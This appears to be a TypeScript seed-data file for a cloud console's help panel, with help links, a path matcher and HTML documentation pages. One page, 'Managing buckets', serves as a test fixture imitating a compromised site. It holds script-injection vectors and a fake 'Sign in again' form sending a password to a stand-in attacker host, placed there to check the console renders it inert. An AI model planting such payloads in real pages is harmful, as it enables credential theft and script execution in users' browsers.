// The contextual help links and the documentation pages the console's help panel and inline help show (spec 2 §2
// Inline help, §7, §9: view-all counts 4 and 2, private and community values).

/** Where a link leads: documentation, the community forum, or a private (internal-only) page. */
export type HelpLinkKind = 'documentation' | 'community' | 'private';

/** One contextual help link. */
export interface HelpLink {
  displayText: string;
  /** Absolute for community and private links; documentation links are resolved against the help base. */
  url: string;
  kind: HelpLinkKind;
  /** Console paths the link is for: an exact path, or a prefix ending in `/*`; `*` means every page (generic). */
  pathPatterns: readonly string[];
}

/** The seeded links; documentation urls are relative to `/help/docs/`. */
export const HELP_LINKS: readonly HelpLink[] = [
  {
    displayText: 'Getting started with the console',
    url: 'getting-started.html',
    kind: 'documentation',
    pathPatterns: ['*'],
  },
  {
    displayText: 'Ask the community',
    url: 'https://community.example.com/console',
    kind: 'community',
    pathPatterns: ['*'],
  },
  {
    displayText: 'Creating a compute instance',
    url: 'compute-instances.html',
    kind: 'documentation',
    pathPatterns: ['/compute', '/compute/*'],
  },
  {
    displayText: 'Choosing a shape',
    url: 'compute-instances.html#shapes',
    kind: 'documentation',
    pathPatterns: ['/compute/instances', '/compute/instances/*'],
  },
  {
    displayText: 'Compute questions in the community',
    url: 'https://community.example.com/compute',
    kind: 'community',
    pathPatterns: ['/compute/*'],
  },
  {
    displayText: 'Internal compute runbook',
    url: 'https://internal.example.com/runbooks/compute',
    kind: 'private',
    pathPatterns: ['/compute/*'],
  },
  {
    displayText: 'Connecting to an instance',
    url: 'compute-connecting.html',
    kind: 'documentation',
    pathPatterns: ['/compute/*'],
  },
  {
    displayText: 'Managing boot volumes',
    url: 'compute-boot-volumes.html',
    kind: 'documentation',
    pathPatterns: ['/compute/*'],
  },
  {
    displayText: 'Getting instance metadata',
    url: 'compute-metadata.html',
    kind: 'documentation',
    pathPatterns: ['/compute/instances', '/compute/instances/*'],
  },
  {
    displayText: 'Stopping and starting an instance',
    url: 'compute-lifecycle.html',
    kind: 'documentation',
    pathPatterns: ['/compute/instances', '/compute/instances/*'],
  },
  {
    displayText: 'Shapes and pricing discussions',
    url: 'https://community.example.com/compute/shapes',
    kind: 'community',
    pathPatterns: ['/compute/*'],
  },
  {
    displayText: 'Instance troubleshooting threads',
    url: 'https://community.example.com/compute/troubleshooting',
    kind: 'community',
    pathPatterns: ['/compute/*'],
  },
  {
    // A page from a compromised documentation site, for the console's tests: it must render inert.
    displayText: 'Managing buckets',
    url: 'object-storage-buckets.html',
    kind: 'documentation',
    pathPatterns: ['/object-storage', '/object-storage/*'],
  },
  {
    displayText: 'Understanding your bill',
    url: 'billing-usage.html',
    kind: 'documentation',
    pathPatterns: ['/billing', '/billing/*'],
  },
  {
    displayText: 'Writing IAM policies',
    url: 'identity-policies.html',
    kind: 'documentation',
    pathPatterns: ['/identity', '/identity/*'],
  },
];

/** Whether a console path matches a link's pattern (`*` every path, `/x/*` anything under /x, else exact). */
export function matchesPath(pattern: string, path: string): boolean {
  if (pattern === '*') return true;
  if (pattern.endsWith('/*')) return path.startsWith(pattern.slice(0, -1));
  return path === pattern;
}

function page(title: string, body: string): string {
  return [
    '<!doctype html>',
    '<html lang="en">',
    `<head><meta charset="utf-8"><title>${title}</title></head>`,
    `<body><main><h1>${title}</h1>`,
    body,
    '</main></body>',
    '</html>',
    '',
  ].join('\n');
}

/** The seeded documentation pages by name (the `{page}` of `/help/docs/{page}.html`). */
export const DOC_PAGES: Readonly<Record<string, string>> = {
  'getting-started': page(
    'Getting started with the console',
    [
      '<p>The console lets you create and manage cloud resources in every region your tenancy subscribes to.</p>',
      '<h2>Before you begin</h2>',
      '<div class="alert alert-info" role="note"><p>You need a user in a group with a policy granting access.</p></div>',
      '<h2>Next steps</h2>',
      '<ul><li><a href="compute-instances.html">Create a compute instance</a></li>',
      '<li><a href="identity-policies.html">Write a policy</a></li></ul>',
    ].join('\n')
  ),
  'compute-instances': page(
    'Creating a compute instance',
    [
      '<p>An instance is a virtual machine or bare metal host in a compartment.</p>',
      '<h2 id="shapes">Shapes</h2>',
      '<table><caption>Flexible shapes</caption><thead><tr><th scope="col">Shape</th><th scope="col">OCPUs</th>',
      '<th scope="col">Memory (GB)</th></tr></thead>',
      '<tbody><tr><td>VM.Standard.E4.Flex</td><td>1–64</td><td>1–1024</td></tr>',
      '<tr><td>VM.Standard.A1.Flex</td><td>1–80</td><td>1–512</td></tr></tbody></table>',
      '<div class="alert alert-warning" role="alert"><p>Always Free tenancies can only use Always Free shapes.</p></div>',
      '<h2>Creating the instance</h2>',
      '<div class="tabs" data-title="Ways to create an instance">',
      '<div class="tab" data-title="Console"><p>Open the navigation menu, select <strong>Compute</strong>, then',
      '<strong>Instances</strong>, and select <strong>Create instance</strong>.</p></div>',
      '<div class="tab" data-title="CLI"><pre><code>oci compute instance launch --availability-domain AD-1 \\',
      '  --shape VM.Standard.E4.Flex --subnet-id ocid1.subnet.oc1..example</code></pre></div>',
      '<div class="tab" data-title="API"><p>Use the <code>LaunchInstance</code> operation.</p></div>',
      '</div>',
      '<div class="accordion"><h3 class="accordion-title">Which image should I choose?</h3>',
      '<div class="accordion-content"><p>Platform images are kept up to date by the provider; custom images are',
      'yours to patch.</p></div></div>',
      '<div class="accordion"><h3 class="accordion-title">What does an instance cost while stopped?</h3>',
      '<div class="accordion-content"><p>Standard shapes are not billed while stopped; their boot volumes are.</p>',
      '</div></div>',
      '<div class="alert alert-info" role="note"><p>Instances are created in the region selected in the header.</p></div>',
      '<h2>Connecting</h2>',
      '<p>See <a href="https://docs.oracle.com/iaas/compute-connecting.html">Connecting to an instance</a> and',
      '<a href="https://docs.example.com/compute/ssh">SSH basics</a>.</p>',
    ].join('\n')
  ),
  'compute-connecting': page(
    'Connecting to an instance',
    [
      '<p>Linux instances accept SSH with the key given at creation; Windows instances accept Remote Desktop.</p>',
      '<pre><code>ssh -i ~/.ssh/id_rsa opc@203.0.113.10</code></pre>',
      '<div class="alert alert-danger" role="alert"><p>Never open port 22 to 0.0.0.0/0 in production.</p></div>',
    ].join('\n')
  ),
  'compute-boot-volumes': page(
    'Managing boot volumes',
    '<p>A boot volume holds the image an instance starts from. It can be kept when the instance is terminated.</p>'
  ),
  'compute-metadata': page(
    'Getting instance metadata',
    '<p>From inside an instance: <code>curl -H "Authorization: Bearer Oracle" http://169.254.169.254/opc/v2/instance/</code></p>'
  ),
  'compute-lifecycle': page(
    'Stopping and starting an instance',
    '<p>Stop, start and reboot an instance from its details page. A stopped instance keeps its boot volume.</p>'
  ),
  // A documentation page as a compromised site might serve it: scripts, event handlers, `javascript:` links, frames and
  // a form among ordinary content. The console must show the content and run none of it (e2e/help-panel.spec.ts).
  'object-storage-buckets': page(
    'Managing buckets',
    [
      '<p onmouseover="window.__helpPwned = \'mouseover\'">A bucket is a container for objects in a compartment.</p>',
      '<script>window.__helpPwned = "script";</script>',
      '<img src="x" alt="" onerror="window.__helpPwned = \'onerror\'">',
      '<h2>Creating a bucket</h2>',
      '<p>Select <a href="javascript:window.__helpPwned = \'link\'">Create bucket</a> and give it a name.</p>',
      '<p><a href="JaVaScRiPt:window.__helpPwned=\'mixed case\'" onclick="window.__helpPwned = \'onclick\'">Bucket',
      'naming rules</a></p>',
      '<iframe src="https://evil.example/steal" srcdoc="<script>parent.__helpPwned = \'frame\'</script>"></iframe>',
      '<form action="https://evil.example/collect"><input name="password"><button>Sign in again</button></form>',
      '<svg><script>window.__helpPwned = "svg"</script></svg>',
      '<details open ontoggle="window.__helpPwned = \'ontoggle\'"><summary>Storage tiers</summary>',
      '<p>Standard, Infrequent Access and Archive.</p></details>',
      '<div class="alert alert-info" style="background:url(javascript:alert(1))"><p>Buckets are regional.</p></div>',
    ].join('\n')
  ),
  'billing-usage': page(
    'Understanding your bill',
    [
      '<p>Usage is metered per hour and summarised per day.</p>',
      '<h2>Cost views</h2>',
      '<table><thead><tr><th>View</th><th>Window</th></tr></thead>',
      '<tbody><tr><td>Cost analysis</td><td>Up to 31 days</td></tr><tr><td>Usage reports</td><td>1 year</td></tr></tbody></table>',
      '<div class="alert alert-warning" role="alert"><p>Amounts of the current day are estimates.</p></div>',
      '<p>Read <a href="getting-started.html">Getting started</a> for the basics.</p>',
    ].join('\n')
  ),
  'identity-policies': page(
    'Writing IAM policies',
    [
      '<p>A policy statement grants a group access to resources in a compartment.</p>',
      '<h2>Syntax</h2>',
      '<pre><code>Allow group Admins to manage all-resources in tenancy</code></pre>',
      '<table><thead><tr><th>Verb</th><th>Grants</th></tr></thead>',
      '<tbody><tr><td>inspect</td><td>list</td></tr><tr><td>read</td><td>list and get</td></tr>',
      '<tr><td>use</td><td>read and update</td></tr><tr><td>manage</td><td>everything</td></tr></tbody></table>',
      '<div class="alert alert-danger" role="alert"><p>Policies in the root compartment apply to every compartment.</p></div>',
    ].join('\n')
  ),
};
